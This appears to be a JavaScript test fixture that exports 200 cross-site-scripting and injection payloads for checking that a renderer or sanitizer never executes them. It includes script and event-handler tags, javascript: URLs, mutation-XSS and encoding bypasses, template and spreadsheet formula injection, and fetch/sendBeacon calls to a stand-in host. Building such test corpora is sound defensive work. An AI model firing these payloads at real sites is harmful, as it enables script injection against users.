// 200 texts that would do something, were they ever taken for markup, code or an address. What they would do is seen by the
// test: a mark on window, a dialog, a request to another host, a report of the content policy.
const RUN = "window.__hit=1;alert(1)";
const AWAY = "http://elsewhere.invalid/x";

const CLASSICS = [
  `<script>${RUN}</script>`, `<script src=${AWAY}></script>`, `<img src=x onerror="${RUN}">`, `<img src=${AWAY}>`, `<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`, `<iframe src=${AWAY}></iframe>`, `<object data="${AWAY}"></object>`, `<embed src="${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}>`, `<link rel=prefetch href=${AWAY}>`, `<link rel=dns-prefetch href=//elsewhere.invalid>`, `<style>@import '${AWAY}';</style>`, `<style>*{background:url(${AWAY})}</style>`,
  `<base href=${AWAY}>`, `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<form action=${AWAY}><input type=submit autofocus onfocus=this.form.submit()></form>`, `<button formaction="javascript:${RUN}">x</button>`,
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}//`, `data:text/html,<script>${RUN}</script>`, `vbscript:msgbox(1)`, `"><script>${RUN}</script>`, `'><img src=x onerror='${RUN}'>`, `" onmouseover="${RUN}" x="`, `' onfocus='${RUN}' autofocus='`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`,
  `<math><mtext></p><style><img src=x onerror="${RUN}"></style></math>`, `<svg><style><img src=x onerror="${RUN}"></style></svg>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href=${AWAY} ping=${AWAY}>x</a>`, `<area href="javascript:${RUN}">`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${RUN}">`,
  `<svg><image href="${AWAY}"/></svg>`, `<svg><use href="${AWAY}#x"/></svg>`, `<video src=${AWAY} autoplay></video>`, `<video poster=${AWAY}></video>`, `<audio src=x onerror="${RUN}">`, `<source srcset=${AWAY}>`, `<img srcset="${AWAY} 2x">`, `<picture><source srcset=${AWAY}><img></picture>`,
  `<input type=image src=${AWAY}>`, `<body onload="${RUN}">`, `<details open ontoggle="${RUN}">x</details>`, `<marquee onstart="${RUN}">`, `<input autofocus onfocus="${RUN}">`, `<select autofocus onfocus="${RUN}">`, `<textarea autofocus onfocus="${RUN}">`, `<keygen autofocus onfocus="${RUN}">`,
  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>`, `<div popover id=p onbeforetoggle="${RUN}"></div>`, `<portal src=${AWAY}>`, `<xss contenteditable onbeforeinput="${RUN}">`, `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">`,
  `<script type=module>${RUN}</script>`, `<script type=importmap>{"imports":{"./dom.js":"${AWAY}"}}</script>`, `<script>fetch('${AWAY}')</script>`, `<script>new WebSocket('ws://elsewhere.invalid')</script>`, `<script>navigator.sendBeacon('${AWAY}')</script>`,
  `<p style="background:url('${AWAY}')">`, `<p style="width:expression(${RUN})">`, `url(javascript:${RUN})`, `;}*{background:url(${AWAY})}`, `</script><script>${RUN}</script>`, `\\";${RUN}//`, `';${RUN}//`, `\`;${RUN};\``, `__proto__`, `constructor`, `hasOwnProperty`, `toString`,
  `=HYPERLINK("${AWAY}","x")`, `=cmd|'/C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1)`, `\u202Egpj.exe`, `\u2066\u202Ecod.txt\u2069`, `a\u0000<b>`, `\u200f<img src=x onerror="${RUN}">`, `＜script＞${RUN}＜/script＞`, `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<SCRIPT\n>${RUN}</SCRIPT\n>`, `<img/src=x/onerror=${RUN}>`, `<img src=x onerror\n=\n"${RUN}">`, `<img src="x\`onerror=${RUN}">`, `<<img src=x onerror="${RUN}">>`,
];

const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationend", "ontransitionend", "onscroll", "onwheel", "oncopy", "onpaste", "ondrop", "oncontentvisibilityautostatechange"];
const TAGS = ["img src=x", "svg", "body", "div tabindex=0 autofocus", "video src=x", "input autofocus", "math", "custom-tag"];

const combined = EVENTS.flatMap((event) => TAGS.map((tag) => `<${tag} ${event}="${RUN}">`));
export const PAYLOADS = [...new Set([...CLASSICS, ...combined])].slice(0, 200);
